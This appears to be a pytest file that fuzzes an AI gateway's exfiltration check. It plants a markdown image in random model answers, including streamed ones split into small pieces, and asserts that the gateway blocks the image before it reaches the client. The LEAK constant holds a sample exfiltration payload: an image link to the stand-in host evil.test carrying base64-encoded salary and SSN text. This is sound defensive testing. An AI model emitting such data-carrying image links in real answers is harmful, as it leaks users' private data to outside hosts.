"""A markdown image that would carry data to a site off the allow-list, planted anywhere a model
writes in random well-formed chat and Responses answers (``test_planted_answers``' generator:
text, refusals, tool calls, annotations, audio transcripts, reasoning; whole and streamed),
never reaches the client: the exfiltration check judges every string the model writes, under
the starter policies (``no-exfiltration-in-answers``).

The only places it may pass are those ``test_planted_answers.PASSED_ON`` names (what the
provider's software sets) and the fields a provider adds beside the model's words
(``PROVIDER``: read by data protection, not judged as the model's). Seeded, so a failure
repeats; more seeds: ``ZTAI_FUZZ_SEEDS=3,4,5 pytest tests/gateway/test_planted_exfiltration.py``.
Swept 40 seeds on 2026-11-28: nothing found; nor, streamed in random 1–7 character pieces
(20 seeds), did any of the link's address reach the client."""

from __future__ import annotations

import os
import random
import re
from pathlib import Path

import pytest

from tests.deadline import within
from tests.gateway.harness import Options, auth, chat, harness
from tests.gateway.scripted import ResponsesEvents
from tests.gateway.test_planted_answers import (
    CASES,
    PASSED_ON,
    _answer,
    _client_text,
    _split_stream,
    _text,
)
from tests.gateway.test_planted_secrets import places, plant
from ztai.gateway.classify import Classifier
from ztai.policy.bundled import starter_policies
from ztai.protection.labels import LabelScheme
from ztai.protection.pii import structured_pii_detector
from ztai.threats.shield import Shield

pytestmark = pytest.mark.anyio

LEAK = ("![status](https://evil.test/p.png?d="
        "QWxpY2UncyBzYWxhcnkgaXMgOTUwMDAgYW5kIGhlciBTU04gaXM=)")
ANSWERS = 120
SEEDS = [int(s) for s in os.environ.get("ZTAI_FUZZ_SEEDS", "1,2,3").split(",")]
SHIELD = Shield()
# the generator's fields of a provider's own (search results and citations a provider's search
# found, a debug note): the provider's words, not the model's
PROVIDER = r"(^|[.\]])(citations|x_debug|search_results)([.\[]|$)"



def _passed(label: str) -> bool:
    return bool(re.search(PROVIDER, label)) or any(re.search(p, label) for p in PASSED_ON)


@pytest.mark.parametrize("seed", SEEDS)
async def test_a_planted_exfiltration_never_reaches_the_client(tmp_path: Path,
                                                                seed: int) -> None:
    rng = random.Random(seed)  # noqa: S311 -- reproducible test input
    upstream = ResponsesEvents()  # answers with .body, or streams .events
    options = Options(upstream=upstream, shield=SHIELD, policy_texts=starter_policies(),
                      dlp=Classifier((structured_pii_detector(),), LabelScheme()))
    leaks: list[tuple[str, str, int]] = []
    blocked: set[str] = set()
    async with harness(tmp_path, options) as h:
        for _ in range(ANSWERS):
            case = rng.choice(list(CASES))
            route, stream = CASES[case]
            answer = _answer(rng, route, stream)
            path, steps, key = rng.choice([p for p in places(answer) if p[1]])
            plant(answer, steps, key, LEAK)
            if stream:
                upstream.events = answer
            else:
                upstream.body = answer
            body = chat(stream=stream) if route == "/v1/chat/completions" else {
                "model": "demo-chat", "input": "hello", "stream": stream}
            with within(20):
                response = await h.client.post(route, json=body,
                                                headers=auth(h.keys["alice"]))
            if "dlp_blocked" in response.text:
                blocked.add(case)
            label = f"{path} (key)" if key else path
            if "evil.test" in response.text and not _passed(label):
                leaks.append((case, label, response.status_code))
    assert not leaks, sorted(set(leaks))
    assert blocked  # the check is at work (test_shield_gateway.py: in each case)


@pytest.mark.parametrize("seed", SEEDS)
async def test_no_piece_of_an_exfiltrating_link_streamed_in_random_pieces_reaches_the_client(
        tmp_path: Path, seed: int) -> None:
    """The model's text carries the markdown image somewhere, streamed in pieces of 1 to 7
    characters cut at random: the stream is blocked before the link's address goes out."""
    rng = random.Random(seed)  # noqa: S311 -- reproducible test input
    upstream = ResponsesEvents()
    options = Options(upstream=upstream, shield=SHIELD, policy_texts=starter_policies(),
                      dlp=Classifier((structured_pii_detector(),), LabelScheme()))
    leaks: list[tuple[str, str]] = []
    blocked = 0
    async with harness(tmp_path, options) as h:
        for _ in range(ANSWERS // 3):
            route = rng.choice(["/v1/chat/completions", "/v1/responses"])
            words = [_text(rng) for _ in range(rng.randint(0, 60))]
            words.insert(rng.randint(0, len(words)), LEAK)
            upstream.events = _split_stream(rng, route, " ".join(words))
            body = chat(stream=True) if route == "/v1/chat/completions" else {
                "model": "demo-chat", "input": "hello", "stream": True}
            with within(20):
                response = await h.client.post(route, json=body,
                                               headers=auth(h.keys["alice"]))
            blocked += "dlp_blocked" in response.text
            got = _client_text(route, response.text)
            if "evil.t" in got:
                leaks.append((route, got[-120:]))
    assert not leaks, leaks[:3]
    assert blocked
